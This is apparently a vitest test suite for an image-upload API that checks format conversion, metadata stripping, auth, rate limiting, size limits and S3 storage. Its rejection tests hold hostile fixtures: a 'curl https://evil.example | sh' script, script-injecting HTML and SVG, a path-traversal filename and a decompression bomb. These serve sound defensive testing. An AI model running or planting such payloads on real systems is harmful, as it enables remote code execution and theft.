import { randomBytes } from "node:crypto";
import { existsSync } from "node:fs";
import { readdir } from "node:fs/promises";
import { join } from "node:path";
import { ErrorResponseSchema } from "@vitae/schema";
import type { LightMyRequestResponse } from "fastify";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestApp, type TestApp } from "../../test/create-test-app.ts";
import { type LocalS3, s3Env, startLocalS3 } from "../../test/fakes/s3-server.ts";
import { signUp } from "../auth/auth.test-helpers.ts";
import { accessCookieName } from "../auth/index.ts";
import {
  animatedGif,
  gradient,
  multipart,
  pngBomb,
  type Requester,
  uploadAs,
  uploadedUrl,
} from "./storage.test-helpers.ts";

let test: TestApp;

beforeAll(async () => {
  test = await createTestApp();
});

afterAll(async () => {
  await test?.close();
});

const expectError = (response: LightMyRequestResponse, status: number, code: string) => {
  expect({ status: response.statusCode, body: response.json() }).toMatchObject({ status, body: { code } });
  expect(ErrorResponseSchema.safeParse(response.json()).success).toBe(true);
};

const localDir = (app: TestApp) => {
  if (app.config.storage.driver !== "local") throw new Error("not local storage");
  return app.config.storage.dir;
};

/** Whether the user has any stored picture at all (their folder exists). */
const hasPictures = (app: TestApp, userId: string) => existsSync(join(localDir(app), "pictures", userId));

/** Every stored picture file, whoever uploaded it. */
const allPictures = async (app: TestApp) => {
  const dir = join(localDir(app), "pictures");
  return existsSync(dir)
    ? (await readdir(dir, { recursive: true })).filter((name) => name.endsWith(".webp"))
    : [];
};

const pathOf = (app: TestApp, url: string) => {
  const parsed = new URL(url);
  expect(parsed.origin).toBe(app.config.publicUrl);
  return parsed.pathname;
};

const fetchPicture = (app: TestApp, url: string) => app.app.inject({ method: "GET", url: pathOf(app, url) });

const tinyPng = () => gradient(2, 2).png().toBuffer();

/** Random pixels: incompressible, so the file is about width × height × 3 bytes. */
const noisePng = (width: number, height: number) =>
  sharp(randomBytes(width * height * 3), { raw: { width, height, channels: 3 } })
    .png({ compressionLevel: 0 })
    .toBuffer();

describe("PUT /api/storage/image", () => {
  it.each([
    {
      type: "JPEG",
      make: () => gradient(2000, 1500).jpeg().toBuffer(),
      name: "photo.jpg",
      size: { width: 1024, height: 768 },
    },
    {
      type: "PNG",
      make: () => gradient(300, 200, 4).png().toBuffer(),
      name: "logo.png",
      size: { width: 300, height: 200 },
    },
    {
      type: "WebP",
      make: () => gradient(1500, 3000).webp().toBuffer(),
      name: "tall.webp",
      size: { width: 512, height: 1024 },
    },
    { type: "GIF", make: () => animatedGif(60, 40), name: "wave.gif", size: { width: 60, height: 40 } },
  ])("stores a $type as a WebP within 1024 px, served back with long cache headers", async (fixture) => {
    const { browser, user } = await signUp(test.app);
    const response = await uploadAs(browser, await fixture.make(), { filename: fixture.name });
    const url = uploadedUrl(response);
    expect(url).toMatch(
      new RegExp(`^${test.config.publicUrl}/storage/pictures/${user.id}/[0-9a-f]{32}\\.webp$`),
    );

    const served = await fetchPicture(test, url);
    expect(served.statusCode).toBe(200);
    expect(served.headers).toMatchObject({
      "content-type": "image/webp",
      "cache-control": "public, max-age=31536000, immutable",
      "x-content-type-options": "nosniff",
    });
    expect(served.headers["content-security-policy"]).toMatch(/default-src 'none'.*sandbox/);
    const stored = await sharp(served.rawPayload).metadata();
    expect(stored).toMatchObject({ format: "webp", ...fixture.size });
    // One frame only: an animated GIF becomes a still of its first frame.
    expect(stored.pages).toBeUndefined();
  });

  it("keeps the first frame of an animated GIF", async () => {
    const { browser } = await signUp(test.app);
    const url = uploadedUrl(await uploadAs(browser, await animatedGif(60, 40), { filename: "wave.gif" }));
    const { data } = await sharp((await fetchPicture(test, url)).rawPayload)
      .raw()
      .toBuffer({ resolveWithObject: true });
    const [red = 0, green = 0, blue = 0] = data.subarray(0, 3);
    expect(red).toBeGreaterThan(200);
    expect(green + blue).toBeLessThan(60);
  });

  it("recognises a picture by its content, whatever its name and declared type", async () => {
    const { browser } = await signUp(test.app);
    const response = await uploadAs(browser, await tinyPng(), {
      filename: "notes.txt",
      contentType: "text/plain",
    });
    expect(response.statusCode).toBe(200);
  });

  it.each([
    ["a shell script", Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n")],
    ["an HTML page", Buffer.from("<!doctype html><script>alert(document.cookie)</script>")],
    ["an SVG with a script", Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ["an empty file", Buffer.alloc(0)],
  ])("refuses %s named x.png and sent as image/png with 415 InvalidImage", async (_name, body) => {
    const { browser, user } = await signUp(test.app);
    const response = await uploadAs(browser, body, { filename: "x.png", contentType: "image/png" });
    expectError(response, 415, "InvalidImage");
    expect(hasPictures(test, user.id)).toBe(false);
  });

  it.each([
    [
      "a PNG signature followed by HTML",
      async () => Buffer.concat([(await tinyPng()).subarray(0, 8), Buffer.from("<html>")]),
    ],
    ["a truncated JPEG", async () => (await gradient(400, 300).jpeg().toBuffer()).subarray(0, 600)],
    ["a TIFF (decodable, but not an accepted type)", () => gradient(20, 20).tiff().toBuffer()],
  ])("refuses %s with 415 InvalidImage", async (_name, make) => {
    const { browser, user } = await signUp(test.app);
    expectError(await uploadAs(browser, await make()), 415, "InvalidImage");
    expect(hasPictures(test, user.id)).toBe(false);
  });

  it("refuses a decompression bomb (a small file of 81 megapixels) before decoding it", async () => {
    const { browser, user } = await signUp(test.app);
    const bomb = pngBomb(9000);
    expect(bomb.length).toBeLessThan(100 * 1024);
    const started = performance.now();
    const response = await uploadAs(browser, bomb);
    expectError(response, 413, "PayloadTooLarge");
    expect(response.json().message).toMatch(/9000×9000; at most 67 megapixels/);
    expect(performance.now() - started).toBeLessThan(2_000);
    expect(hasPictures(test, user.id)).toBe(false);
  });

  it("strips EXIF (GPS, camera, orientation), ICC and XMP metadata and turns the picture upright", async () => {
    // Left half red, right half blue; EXIF orientation 6 says "turn 90° clockwise to view": red on top.
    const width = 400;
    const height = 200;
    const pixels = Buffer.alloc(width * height * 3);
    for (let at = 0; at < width * height; at += 1) {
      const left = at % width < width / 2;
      pixels[at * 3] = left ? 255 : 0;
      pixels[at * 3 + 2] = left ? 0 : 255;
    }
    const jpeg = await sharp(pixels, { raw: { width, height, channels: 3 } })
      .jpeg()
      .withMetadata({ orientation: 6 })
      .withExif({
        IFD0: { Make: "PhoneMaker", Model: "Phone 15", Artist: "Ada Lovelace" },
        IFD3: {
          GPSLatitudeRef: "N",
          GPSLatitude: "51/1 30/1 2669/100",
          GPSLongitudeRef: "W",
          GPSLongitude: "0/1 7/1 3999/100",
        },
      })
      .withIccProfile("p3")
      .withXmp(
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Ada Lovelace"/></rdf:RDF></x:xmpmeta>',
      )
      .toBuffer();
    const sent = await sharp(jpeg).metadata();
    expect(sent).toMatchObject({ orientation: 6, width, height });
    expect(sent.exif?.toString("latin1")).toContain("PhoneMaker");
    expect(sent.icc).toBeDefined();
    expect(sent.xmp).toBeDefined();

    const { browser } = await signUp(test.app);
    const stored = (
      await fetchPicture(test, uploadedUrl(await uploadAs(browser, jpeg, { filename: "gps.jpg" })))
    ).rawPayload;
    const metadata = await sharp(stored).metadata();
    expect(metadata.exif).toBeUndefined();
    expect(metadata.icc).toBeUndefined();
    expect(metadata.xmp).toBeUndefined();
    expect(metadata.orientation).toBeUndefined();
    for (const text of ["PhoneMaker", "Ada Lovelace", "Exif", "GPS", "XMP"]) {
      expect(stored.includes(Buffer.from(text, "latin1"))).toBe(false);
    }

    expect(metadata).toMatchObject({ width: height, height: width });
    const { data } = await sharp(stored).raw().toBuffer({ resolveWithObject: true });
    const pixel = (x: number, y: number) => [
      ...data.subarray((y * height + x) * 3, (y * height + x) * 3 + 3),
    ];
    const [topRed = 0, , topBlue = 0] = pixel(100, 50);
    const [bottomRed = 0, , bottomBlue = 0] = pixel(100, 350);
    expect(topRed).toBeGreaterThan(200);
    expect(topBlue).toBeLessThan(60);
    expect(bottomBlue).toBeGreaterThan(200);
    expect(bottomRed).toBeLessThan(60);
  });

  it("answers 401 Unauthorized to a guest and stores nothing", async () => {
    const before = await allPictures(test);
    const guest: Requester = { request: (options) => test.app.inject(options) };
    expectError(await uploadAs(guest, await tinyPng()), 401, "Unauthorized");
    const forged = await test.app.inject({
      method: "PUT",
      url: "/api/storage/image",
      cookies: { [accessCookieName]: "not.a.token" },
      ...multipart([{ name: "file", body: await tinyPng(), filename: "a.png" }]),
    });
    expectError(forged, 401, "Unauthorized");
    expect(await allPictures(test)).toEqual(before);
  });

  it("answers 400 ValidationError without a file in the field `file`", async () => {
    const { browser } = await signUp(test.app);
    const png = await tinyPng();
    const attempts = [
      multipart([{ name: "file", body: "just text" }]),
      multipart([{ name: "picture", body: png, filename: "a.png", contentType: "image/png" }]),
      multipart([]),
      { payload: { file: png.toString("base64") } },
    ];
    for (const attempt of attempts) {
      const response = await browser.request({ method: "PUT", url: "/api/storage/image", ...attempt });
      expectError(response, 400, "ValidationError");
      expect(response.json().issues).toEqual([{ path: "file", message: "Required" }]);
    }
  });

  it("gives every upload a new key and honours no key, path or name from the client", async () => {
    const alice = await signUp(test.app);
    const bob = await signUp(test.app);
    const alicePicture = await gradient(64, 64).png().toBuffer();
    const aliceUrl = uploadedUrl(await uploadAs(alice.browser, alicePicture));
    const aliceKey = pathOf(test, aliceUrl).slice("/storage/".length);
    const aliceBytes = (await fetchPicture(test, aliceUrl)).rawPayload;

    // The same file twice: two keys, both kept.
    const again = uploadedUrl(await uploadAs(alice.browser, alicePicture));
    expect(again).not.toBe(aliceUrl);
    expect((await fetchPicture(test, again)).statusCode).toBe(200);

    // Bob names Alice's key every way the request allows.
    const bobPicture = await gradient(32, 32).png().toBuffer();
    const bobUrl = uploadedUrl(
      await uploadAs(bob.browser, bobPicture, {
        url: `/api/storage/image?key=${encodeURIComponent(aliceKey)}&userId=${alice.user.id}`,
        filename: `../../${aliceKey}`,
        extra: [
          { name: "key", body: aliceKey },
          { name: "path", body: `/storage/${aliceKey}` },
          { name: "userId", body: alice.user.id },
        ],
      }),
    );
    expect(bobUrl).toMatch(new RegExp(`/storage/pictures/${bob.user.id}/[0-9a-f]{32}\\.webp$`));

    // No route writes or deletes a stored picture (the upload route itself takes only PUT: 405 for DELETE).
    for (const method of ["PUT", "POST", "PATCH", "DELETE"] as const) {
      for (const url of [
        `/storage/${aliceKey}`,
        `/api/storage/image/${aliceKey}`,
        `/api/storage/${aliceKey}`,
      ]) {
        const response = await bob.browser.request({
          method,
          url,
          ...multipart([{ name: "file", body: bobPicture, filename: "a.png" }]),
        });
        expectError(response, 404, "NotFound");
      }
    }
    expectError(
      await bob.browser.request({ method: "DELETE", url: "/api/storage/image" }),
      405,
      "MethodNotAllowed",
    );

    const after = await fetchPicture(test, aliceUrl);
    expect(after.statusCode).toBe(200);
    expect(after.rawPayload.equals(aliceBytes)).toBe(true);
  });

  it("deletes a user's pictures with their account, and nobody else's", async () => {
    const alice = await signUp(test.app);
    const bob = await signUp(test.app);
    const aliceUrls = [
      uploadedUrl(await uploadAs(alice.browser, await tinyPng())),
      uploadedUrl(await uploadAs(alice.browser, await tinyPng())),
    ];
    const bobUrl = uploadedUrl(await uploadAs(bob.browser, await tinyPng()));

    const deleted = await alice.browser.request({
      method: "DELETE",
      url: "/api/user/me",
      payload: { password: alice.registration.password },
    });
    expect(deleted.statusCode).toBe(204);
    for (const url of aliceUrls) expectError(await fetchPicture(test, url), 404, "NotFound");
    expect(hasPictures(test, alice.user.id)).toBe(false);
    expect((await fetchPicture(test, bobUrl)).statusCode).toBe(200);
  });

  it("limits a user to 30 uploads a minute (429 TooManyRequests); others keep theirs", async () => {
    const busy = await signUp(test.app);
    const png = await tinyPng();
    for (let upload = 0; upload < 30; upload += 1) {
      expect((await uploadAs(busy.browser, png)).statusCode).toBe(200);
    }
    const refused = await uploadAs(busy.browser, png);
    expectError(refused, 429, "TooManyRequests");
    expect(Number(refused.headers["retry-after"])).toBeGreaterThan(0);

    const other = await signUp(test.app);
    expect((await uploadAs(other.browser, png)).statusCode).toBe(200);
  });

  it("multiplies the upload limit by RATE_LIMIT_FACTOR", async () => {
    const relaxed = await createTestApp({ env: { RATE_LIMIT_FACTOR: "2" } });
    try {
      const { browser } = await signUp(relaxed.app);
      const png = await tinyPng();
      for (let upload = 0; upload < 60; upload += 1) {
        expect((await uploadAs(browser, png)).statusCode).toBe(200);
      }
      expectError(await uploadAs(browser, png), 429, "TooManyRequests");
    } finally {
      await relaxed.close();
    }
  });
});

describe("PUT /api/storage/image with UPLOAD_MAX_BYTES=65536", () => {
  let small: TestApp;
  let origin: string;

  beforeAll(async () => {
    small = await createTestApp({ env: { UPLOAD_MAX_BYTES: "65536" } });
    origin = await small.app.listen({ port: 0, host: "127.0.0.1" });
  });

  afterAll(async () => {
    await small?.close();
  });

  it("accepts a file within the limit", async () => {
    const { browser } = await signUp(small.app);
    const png = await noisePng(100, 100);
    expect(png.length).toBeLessThan(65536);
    expect((await uploadAs(browser, png)).statusCode).toBe(200);
  });

  it("refuses a larger file with 413 PayloadTooLarge and stores nothing", async () => {
    const { browser, user } = await signUp(small.app);
    const png = await noisePng(200, 200);
    expect(png.length).toBeGreaterThan(65536);
    const response = await uploadAs(browser, png);
    expectError(response, 413, "PayloadTooLarge");
    expect(response.json().message).toBe("The picture is larger than 64 KB");
    // The rest of an oversized body is not read: the connection ends with the answer.
    expect(response.headers.connection).toBe("close");
    expect(hasPictures(small, user.id)).toBe(false);
  });

  it("refuses over real HTTP a large file streamed without Content-Length, without waiting for all of it", async () => {
    const { browser, user } = await signUp(small.app);
    const cookie = `${accessCookieName}=${browser.cookies.get(accessCookieName)}`;
    const { payload, headers } = multipart([
      { name: "file", body: await noisePng(200, 200), filename: "big.png", contentType: "image/png" },
    ]);
    const head = (payload as Buffer).subarray(0, 200 * 1024);
    // The first 200 KB go out at once; the rest would never come: the answer must not wait for it.
    let stop: () => void = () => undefined;
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(new Uint8Array(head));
        stop = () => controller.close();
      },
    });
    try {
      const response = await fetch(`${origin}/api/storage/image`, {
        method: "PUT",
        headers: { ...(headers as Record<string, string>), cookie },
        body,
        duplex: "half",
      } as RequestInit);
      expect(response.status).toBe(413);
      expect(await response.json()).toMatchObject({ code: "PayloadTooLarge" });
    } finally {
      stop();
    }
    expect(hasPictures(small, user.id)).toBe(false);
  });

  it("refuses a body announced as too large before reading it", async () => {
    const { browser } = await signUp(small.app);
    const cookie = `${accessCookieName}=${browser.cookies.get(accessCookieName)}`;
    const { payload, headers } = multipart([
      { name: "file", body: randomBytes(1024 * 1024), filename: "big.png", contentType: "image/png" },
    ]);
    const response = await fetch(`${origin}/api/storage/image`, {
      method: "PUT",
      headers: { ...(headers as Record<string, string>), cookie },
      body: payload as Buffer,
    });
    expect(response.status).toBe(413);
    expect(await response.json()).toMatchObject({ code: "PayloadTooLarge" });
  });
});

describe("pictures in an S3 bucket (STORAGE_DRIVER=s3)", () => {
  let s3: LocalS3;
  let bucketed: TestApp;

  beforeAll(async () => {
    s3 = await startLocalS3();
    bucketed = await createTestApp({
      env: s3Env(s3),
    });
  });

  afterAll(async () => {
    await bucketed?.close();
    await s3?.close();
  });

  it("stores uploads in the bucket, serves them and deletes them with the account", async () => {
    const { browser, registration, user } = await signUp(bucketed.app);
    const url = uploadedUrl(await uploadAs(browser, await gradient(50, 50).png().toBuffer()));
    const key = pathOf(bucketed, url).slice("/storage/".length);
    expect(s3.objects.get(key)?.contentType).toBe("image/webp");

    const served = await fetchPicture(bucketed, url);
    expect(served.statusCode).toBe(200);
    expect(served.headers["content-type"]).toBe("image/webp");
    expect(served.rawPayload.equals(s3.objects.get(key)?.body ?? Buffer.alloc(0))).toBe(true);

    const deleted = await browser.request({
      method: "DELETE",
      url: "/api/user/me",
      payload: { password: registration.password },
    });
    expect(deleted.statusCode).toBe(204);
    expect([...s3.objects.keys()].filter((stored) => stored.includes(user.id))).toEqual([]);
    expectError(await fetchPicture(bucketed, url), 404, "NotFound");
  });
});
